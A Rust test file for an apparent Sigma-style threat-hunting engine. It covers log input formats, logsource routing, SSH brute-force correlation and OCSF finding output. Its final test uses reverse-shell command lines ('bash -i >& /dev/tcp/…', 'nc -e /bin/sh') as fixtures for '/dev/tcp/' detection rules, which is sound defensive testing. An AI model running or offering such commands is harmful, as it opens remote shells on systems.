//! JSON, JSON lines and gzip inputs, logsource routing and declaration, time fields,
//! correlations over event time, and the OCSF shape of findings, on self-made fixtures.

mod support;

use support::{config, rendered_as_built, run, Scratch, WHOAMI};
use vigil_hunt::HuntConfig;

const SSH_FAIL: &str = r#"
title: SSH Failed Password
id: 00000000-0000-0000-0000-000000000002
name: ssh_failed
level: low
logsource: {product: linux, service: sshd}
detection:
    selection:
        message|contains: 'Failed password'
    condition: selection
"#;

const SSH_BRUTE: &str = r#"
title: SSH Brute Force
id: 00000000-0000-0000-0000-000000000003
level: high
tags: [attack.credential-access, attack.t1110.001]
correlation:
    type: event_count
    rules: [ssh_failed]
    group-by: [src_ip]
    timespan: 1m
    condition:
        gte: 3
"#;

fn sysmon(image: &str, time: &str) -> serde_json::Value {
    serde_json::json!({"Event": {
        "System": {
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": 1,
            "Computer": "ws-01",
            "TimeCreated": {"#attributes": {"SystemTime": time}}
        },
        "EventData": {"Image": image, "CommandLine": image}
    }})
}

fn rules(s: &Scratch) -> Vec<std::path::PathBuf> {
    s.write("rules/win/whoami.yml", WHOAMI.as_bytes());
    s.write("rules/linux/ssh_fail.yml", SSH_FAIL.as_bytes());
    s.write("rules/linux/ssh_brute.yml", SSH_BRUTE.as_bytes());
    vec![s.path("rules")]
}

#[test]
fn jsonl_json_array_object_and_gzip_forms_all_hunted() {
    let s = Scratch::new("forms");
    let rules = rules(&s);
    let hit = sysmon(
        r"C:\Windows\System32\whoami.exe",
        "2024-05-01T10:00:00.000Z",
    );
    let miss = sysmon(r"C:\Windows\notepad.exe", "2024-05-01T10:00:01.000Z");
    let lines = format!("{miss}\n{hit}\n\n{miss}\n");
    s.write("in/a.jsonl", lines.as_bytes());
    s.write("in/b.ndjson", lines.as_bytes());
    s.write_gz("in/c.jsonl.gz", lines.as_bytes());
    let array = serde_json::json!([miss, hit, miss]).to_string();
    s.write("in/d.json", array.as_bytes());
    s.write_gz("in/e.json.gz", array.as_bytes());
    s.write("in/f.json", hit.to_string().as_bytes());
    // Flat, EVTX-shaped JSON routes as a Windows record too.
    let flat = serde_json::json!({"Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": "1", "Image": r"C:\Tools\WHOAMI.EXE", "UtcTime": "2024-05-01 10:00:02.000"});
    s.write("in/nested/g.jsonl", format!("{flat}\n").as_bytes());
    s.write("in/ignored.txt", b"not a log");
    // A symbolic link back up the tree is not followed around.
    #[cfg(unix)]
    std::os::unix::fs::symlink(s.path("in"), s.path("in/nested/loop")).expect("symlink");
    // A byte-order mark, and gzip content under a plain name.
    s.write("in/h.jsonl", format!("\u{feff}{hit}\n").as_bytes());
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut enc, array.as_bytes()).expect("gz");
    s.write("in/i.json", &enc.finish().expect("gz"));
    let (seen, report) = run(&rules, &[s.path("in")], &config());
    let mut got: Vec<(String, u64)> = seen.iter().map(|x| (x.file.clone(), x.record)).collect();
    got.sort();
    let want: Vec<(String, u64)> = [
        ("a.jsonl", 2),
        ("b.ndjson", 2),
        ("c.jsonl.gz", 2),
        ("d.json", 2),
        ("e.json.gz", 2),
        ("f.json", 1),
        ("g.jsonl", 1),
        ("h.jsonl", 1),
        ("i.json", 2),
    ]
    .iter()
    .map(|(f, r)| (f.to_string(), *r))
    .collect();
    assert_eq!(got, want);
    assert!(seen
        .iter()
        .all(|x| x.rule == "00000000-0000-0000-0000-000000000001"));
    assert_eq!(report.files.len(), 9);
    assert_eq!(report.records, 3 * 3 + 3 + 3 + 1 + 1 + 1 + 3);
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    // Event time from the record (nested TimeCreated, flat UtcTime).
    let g = seen.iter().find(|x| x.file == "g.jsonl").expect("g");
    assert_eq!(
        g.time_ms,
        vigil_event::time::parse_timestamp("2024-05-01T10:00:02Z")
    );
    let a = seen.iter().find(|x| x.file == "a.jsonl").expect("a");
    assert_eq!(
        a.time_ms,
        vigil_event::time::parse_timestamp("2024-05-01T10:00:00Z")
    );
}

#[test]
fn bad_lines_are_reported_with_their_line_and_the_rest_is_hunted() {
    let s = Scratch::new("badlines");
    let rules = rules(&s);
    let hit = sysmon(r"C:\whoami.exe", "2024-05-01T10:00:00Z");
    let text = format!("{hit}\n{{\"broken\": \n[1,2]\n{hit}\n");
    let f = s.write("bad.jsonl", text.as_bytes());
    s.write("bad.json", b"[{\"a\": 1}, {\"b\": ");
    let (seen, report) = run(&rules, &[f, s.path("bad.json")], &config());
    assert_eq!(seen.iter().map(|x| x.record).collect::<Vec<_>>().len(), 2);
    let msgs: Vec<String> = report.errors.iter().map(ToString::to_string).collect();
    assert!(
        msgs.iter()
            .any(|m| m.ends_with("bad.jsonl:2: invalid JSON (column 12): expected a value")),
        "{msgs:?}"
    );
    assert!(
        msgs.iter()
            .any(|m| m.contains("bad.jsonl:3: not a JSON object")),
        "{msgs:?}"
    );
    // The `.json` file is cut inside its second value: the first is hunted.
    assert!(
        msgs.iter()
            .any(|m| m.ends_with("bad.json:offset 17: the file ends inside a value")),
        "{msgs:?}"
    );
    assert!(report.any_input_read());
}

#[test]
fn other_json_takes_the_declared_logsource_only() {
    let s = Scratch::new("logsource");
    rules(&s);
    // Without the correlation, whose base rule it would otherwise be (and so silent).
    let rules = vec![s.path("rules/win"), s.path("rules/linux/ssh_fail.yml")];
    let line = serde_json::json!({"message": "Failed password for root from 10.0.0.9", "src_ip": "10.0.0.9"});
    let f = s.write("auth.jsonl", format!("{line}\n").as_bytes());
    let (seen, report) = run(&rules, std::slice::from_ref(&f), &config());
    assert!(seen.is_empty(), "{seen:?}");
    assert_eq!(report.unrouted, 1);
    let declared = HuntConfig {
        logsource: Some(vigil_hunt::parse_logsource("product=linux,service=sshd").expect("ls")),
        ..config()
    };
    let (seen, report) = run(&rules, std::slice::from_ref(&f), &declared);
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].rule, "00000000-0000-0000-0000-000000000002");
    assert_eq!(report.unrouted, 0);
    // Another logsource reaches other rules only.
    let other = HuntConfig {
        logsource: Some(
            vigil_hunt::parse_logsource("product=windows,category=process_creation").expect("ls"),
        ),
        ..config()
    };
    assert!(run(&rules, &[f], &other).0.is_empty());
    assert!(vigil_hunt::parse_logsource("vendor=x").is_err());
    assert!(vigil_hunt::parse_logsource("").is_err());
}

#[test]
fn correlation_runs_on_event_time_across_files_and_out_of_order_lines() {
    let s = Scratch::new("corr");
    let rules = rules(&s);
    let ev = |ip: &str, t: &str| serde_json::json!({"@timestamp": t, "message": format!("Failed password for root from {ip}"), "src_ip": ip});
    // 10.0.0.1: three failures within 40 s, split over two files and out of order.
    // 10.0.0.2: three failures 5 minutes apart: no finding.
    let a = [
        ev("10.0.0.1", "2024-05-01T10:00:40Z"),
        ev("10.0.0.2", "2024-05-01T10:00:00Z"),
        ev("10.0.0.1", "2024-05-01T10:00:00Z"),
        ev("10.0.0.2", "2024-05-01T10:10:00Z"),
    ];
    let b = [
        ev("10.0.0.1", "2024-05-01T10:00:20Z"),
        ev("10.0.0.2", "2024-05-01T10:05:00Z"),
    ];
    let lines = |v: &[serde_json::Value]| v.iter().map(|x| format!("{x}\n")).collect::<String>();
    s.write("logs/a.jsonl", lines(&a).as_bytes());
    s.write_gz("logs/b.jsonl.gz", lines(&b).as_bytes());
    let cfg = HuntConfig {
        logsource: Some(vigil_hunt::parse_logsource("product=linux,service=sshd").expect("ls")),
        ..config()
    };
    let (seen, _) = run(&rules, &[s.path("logs")], &cfg);
    let brute: Vec<_> = seen
        .iter()
        .filter(|x| x.rule == "00000000-0000-0000-0000-000000000003")
        .collect();
    assert_eq!(brute.len(), 1, "{seen:#?}");
    let c = brute[0];
    assert_eq!(
        c.group,
        vec![("src_ip".to_string(), Some("10.0.0.1".to_string()))]
    );
    assert_eq!(c.events, 3);
    assert_eq!(
        c.time_ms,
        vigil_event::time::parse_timestamp("2024-05-01T10:00:40Z")
    );
    // Base rules of a correlation are not reported themselves unless `generate: true`.
    assert!(seen
        .iter()
        .all(|x| x.rule != "00000000-0000-0000-0000-000000000002"));
    let ev = &c.ocsf["evidences"];
    assert_eq!(ev[0]["name"], "group_by");
    assert_eq!(ev[0]["data"]["src_ip"], "10.0.0.1");
    assert_eq!(ev.as_array().map(Vec::len), Some(4));
    assert_eq!(c.ocsf["finding_info"]["related_events_count"], 3);
    // With a buffer of one byte every base finding goes through a temporary run file: the
    // merge gives the same finding; with a one-byte event window only the newest event is
    // attached, and the count still says three.
    let tiny = HuntConfig {
        correlation_buffer: 1,
        correlation_events: 1,
        ..cfg.clone()
    };
    let (seen2, report2) = run(&rules, &[s.path("logs")], &tiny);
    assert_eq!(report2.correlation_spilled, 6);
    let c2: Vec<_> = seen2
        .iter()
        .filter(|x| x.rule == "00000000-0000-0000-0000-000000000003")
        .collect();
    assert_eq!(c2.len(), 1);
    assert_eq!(c2[0].group, c.group);
    assert_eq!(c2[0].time_ms, c.time_ms);
    assert_eq!(c2[0].events, 1);
    assert_eq!(c2[0].ocsf["finding_info"]["related_events_count"], 3);
    // --time-field picks another field.
    let shifted = serde_json::json!({"when": "2024-05-01T12:00:00Z", "@timestamp": "2024-05-01T10:00:00Z",
        "message": "Failed password", "src_ip": "10.0.0.3"});
    let f = s.write("when.jsonl", format!("{shifted}\n").as_bytes());
    let cfg = HuntConfig {
        time_field: Some("when".into()),
        ..cfg
    };
    let rules2 = vec![s.path("rules/linux/ssh_fail.yml")];
    let (seen, _) = run(&rules2, &[f], &cfg);
    assert_eq!(
        seen[0].time_ms,
        vigil_event::time::parse_timestamp("2024-05-01T12:00:00Z")
    );
}

#[test]
fn upper_bound_correlation_is_judged_when_its_window_closes() {
    let s = Scratch::new("corr_lt");
    s.write("rules/ssh_fail.yml", SSH_FAIL.as_bytes());
    s.write(
        "rules/few.yml",
        br#"
title: Few SSH failures
id: 00000000-0000-0000-0000-000000000004
level: low
correlation:
    type: event_count
    rules: [ssh_failed]
    group-by: [src_ip]
    timespan: 1m
    condition:
        lt: 2
"#,
    );
    let ev = |ip: &str, t: &str| serde_json::json!({"@timestamp": t, "message": "Failed password", "src_ip": ip});
    // 10.0.0.1 fails twice within its first minute: not "few"; its failure at 10:05 opens
    // a window that the end of input closes: "few". 10.0.0.2 fails once; its window closes
    // when 10.0.0.1's failure at 10:05 passes its end. 10.0.0.3 fails once at the end.
    let lines: String = [
        ev("10.0.0.1", "2024-05-01T10:00:00Z"),
        ev("10.0.0.2", "2024-05-01T10:00:10Z"),
        ev("10.0.0.1", "2024-05-01T10:00:50Z"),
        ev("10.0.0.1", "2024-05-01T10:05:00Z"),
        ev("10.0.0.3", "2024-05-01T10:05:01Z"),
    ]
    .iter()
    .map(|x| format!("{x}\n"))
    .collect();
    let f = s.write("logs/a.jsonl", lines.as_bytes());
    let cfg = HuntConfig {
        logsource: Some(vigil_hunt::parse_logsource("product=linux,service=sshd").expect("ls")),
        ..config()
    };
    let (seen, _) = run(&[s.path("rules")], &[f], &cfg);
    let mut few: Vec<_> = seen
        .iter()
        .filter(|x| x.rule == "00000000-0000-0000-0000-000000000004")
        .map(|x| x.group[0].1.clone().unwrap_or_default())
        .collect();
    few.sort();
    assert_eq!(few, ["10.0.0.1", "10.0.0.2", "10.0.0.3"], "{seen:#?}");
}

#[test]
fn min_level_filters_findings() {
    let s = Scratch::new("minlevel");
    let rules = rules(&s);
    let hit = sysmon(r"C:\whoami.exe", "2024-05-01T10:00:00Z");
    let f = s.write("x.jsonl", format!("{hit}\n").as_bytes());
    let high = HuntConfig {
        min_level: Some(vigil_hunt::Level::High),
        ..config()
    };
    assert!(run(&rules, std::slice::from_ref(&f), &high).0.is_empty());
    let medium = HuntConfig {
        min_level: Some(vigil_hunt::Level::Medium),
        ..config()
    };
    assert_eq!(run(&rules, &[f], &medium).0.len(), 1);
}

#[test]
fn findings_are_valid_ocsf_detection_findings() {
    let Some(schema_dir) = vigil_testdata::corpus("ocsf-schema") else {
        return;
    };
    let schema = vigil_ocsf_schema::Schema::load(&schema_dir).expect("schema");
    let s = Scratch::new("ocsf");
    let rules = rules(&s);
    let hit = sysmon(r"C:\whoami.exe", "2024-05-01T10:00:00Z");
    s.write("x.jsonl", format!("{hit}\n").as_bytes());
    let ev = |ip: &str, t: &str| serde_json::json!({"@timestamp": t, "message": "Failed password", "src_ip": ip});
    let lines: String = ["10:00:00", "10:00:10", "10:00:20"]
        .iter()
        .map(|t| format!("{}\n", ev("10.0.0.1", &format!("2024-05-01T{t}Z"))))
        .collect();
    s.write("y.jsonl", lines.as_bytes());
    let cfg = HuntConfig {
        logsource: Some(vigil_hunt::parse_logsource("product=linux,service=sshd").expect("ls")),
        ..config()
    };
    let (seen, _) = run(&rules, &[s.path("x.jsonl"), s.path("y.jsonl")], &cfg);
    assert_eq!(seen.len(), 2);
    for x in &seen {
        let v = schema.validate(&x.ocsf);
        assert!(v.is_empty(), "{v:?}\n{}", x.ocsf);
        assert_eq!(x.ocsf["class_uid"], 2004);
    }
    let w = seen.iter().find(|x| x.file == "x.jsonl").expect("whoami");
    let o = &w.ocsf;
    assert_eq!(
        o["finding_info"]["analytic"]["uid"],
        "00000000-0000-0000-0000-000000000001"
    );
    assert_eq!(o["finding_info"]["title"], "Whoami Execution");
    assert_eq!(o["severity_id"], 3);
    assert_eq!(o["time"], 1_714_557_600_000i64);
    assert_eq!(o["finding_info"]["attacks"][0]["technique"]["uid"], "T1033");
    assert_eq!(o["finding_info"]["attacks"][0]["tactic"]["uid"], "TA0007");
    assert!(o["metadata"]["source"]
        .as_str()
        .is_some_and(|s| s.ends_with("x.jsonl#1")));
    assert_eq!(o["evidences"][0]["data"], hit);
}

#[test]
fn a_large_file_is_split_across_workers_with_exact_line_numbers() {
    let s = Scratch::new("large");
    let rules = rules(&s);
    // ~6 MiB of lines (many blocks), a hit every 997 lines, some long lines and CRLFs.
    let mut text = String::new();
    let mut want = Vec::new();
    for n in 1..=30_000u64 {
        let image = if n % 997 == 0 {
            want.push(n);
            r"C:\Windows\System32\whoami.exe".to_string()
        } else {
            format!(r"C:\Windows\{}.exe", "x".repeat((n % 300) as usize))
        };
        text.push_str(&sysmon(&image, "2024-05-01T10:00:00Z").to_string());
        text.push_str(if n % 7 == 0 { "\r\n" } else { "\n" });
    }
    let f = s.write("big.jsonl", text.as_bytes());
    let g = s.write_gz("big.jsonl.gz", text.as_bytes());
    for path in [f, g] {
        let (seen, report) = run(&rules, std::slice::from_ref(&path), &config());
        let mut got: Vec<u64> = seen.iter().map(|x| x.record).collect();
        got.sort_unstable();
        assert_eq!(got, want, "{}", path.display());
        assert_eq!(report.records, 30_000);
        assert!(report.errors.is_empty(), "{:?}", report.errors);
    }
}

#[test]
fn findings_written_from_the_records_text_are_the_findings_built_from_values() {
    let s = Scratch::new("rendered");
    let rules = rules(&s);
    let hit = sysmon(
        r"C:\Windows\System32\whoami.exe",
        "2024-05-01T10:00:00.000Z",
    );
    // Escapes, non-ASCII, a flat record, a pretty-printed `.json` value (line ends inside
    // it), gzip, an OCSF event among them, a record with no time.
    let flat = serde_json::json!({"Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1, "Image": "C:\\Temp\\\"q\"\\WHOAMI.exe", "Note": "é\u{1}\t€😀",
        "UtcTime": "2024-05-01 10:00:03.000"});
    let untimed = serde_json::json!({"Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": "1", "Image": "c:\\x\\whoami.exe"});
    let ocsf = serde_json::json!({"class_uid": 1007, "activity_id": 1, "time": 1_714_557_600_000i64,
        "process": {"file": {"path": "/usr/bin/whoami"}}});
    s.write(
        "in/a.jsonl",
        format!("{hit}\n{flat}\r\n{ocsf}\n{untimed}\n").as_bytes(),
    );
    s.write_gz("in/b.jsonl.gz", format!("{flat}\n{hit}\n").as_bytes());
    let pretty =
        serde_json::to_string_pretty(&serde_json::json!([hit, flat, untimed])).expect("json");
    s.write("in/c \"odd\" name.json", pretty.as_bytes());
    let rules_engine = vigil_hunt::load_rules(&rules).expect("rules");
    let (files, _) = vigil_hunt::discover(&[s.path("in")]).expect("discover");
    let n = rendered_as_built(&rules_engine.built.engine, &files, &config());
    assert_eq!(n, 3 + 2 + 3);
}

/// A keyword rule over Vigil's OCSF events sees the event's own strings, not its
/// lineage context: a keyword only in `parent_process` or `ancestry` (at any depth) fires
/// nothing, the same keyword in the process's own command line fires; a field rule on
/// the parent's command line still reaches it.
#[test]
fn ocsf_keywords_leave_out_the_lineage_context_and_fields_reach_it() {
    const KEYWORD: &str = "title: Reverse shell keyword\nid: 00000000-0000-0000-0000-000000000021\nlevel: high\nlogsource: {product: linux, category: process_creation}\ndetection:\n    keywords: ['/dev/tcp/']\n    condition: keywords\n";
    const PARENT: &str = "title: Parent reverse shell\nid: 00000000-0000-0000-0000-000000000022\nlevel: high\nlogsource: {product: linux, category: process_creation}\ndetection:\n    selection:\n        ParentCommandLine|contains: '/dev/tcp/'\n    condition: selection\n";
    let s = Scratch::new("ocsf-lineage");
    s.write("rules/keyword.yml", KEYWORD.as_bytes());
    s.write("rules/parent.yml", PARENT.as_bytes());
    let launch = |cmd: &str, parent: &str, ancestor: &str| {
        serde_json::json!({
            "class_uid": 1007, "activity_id": 1, "time": 1_714_557_600_000i64,
            "process": {"pid": 2, "cmd_line": cmd, "file": {"path": "/usr/bin/sh"},
                "parent_process": {"pid": 1, "cmd_line": parent},
                "ancestry": [{"pid": 1, "cmd_line": ancestor}]},
        })
    };
    let lines = [
        launch("ls", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "init"),
        launch("ls", "bash", "nc -e /bin/sh; cat /dev/tcp/x"),
        launch("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash", "init"),
    ];
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    let f = s.write("agent.jsonl", text.as_bytes());
    let (seen, report) = run(&[s.path("rules")], &[f], &config());
    assert_eq!(report.records, 3);
    let mut fired: Vec<(String, u64)> = seen.iter().map(|x| (x.rule.clone(), x.record)).collect();
    fired.sort();
    assert_eq!(
        fired,
        [
            ("00000000-0000-0000-0000-000000000021".to_string(), 3),
            ("00000000-0000-0000-0000-000000000022".to_string(), 1)
        ]
    );
}
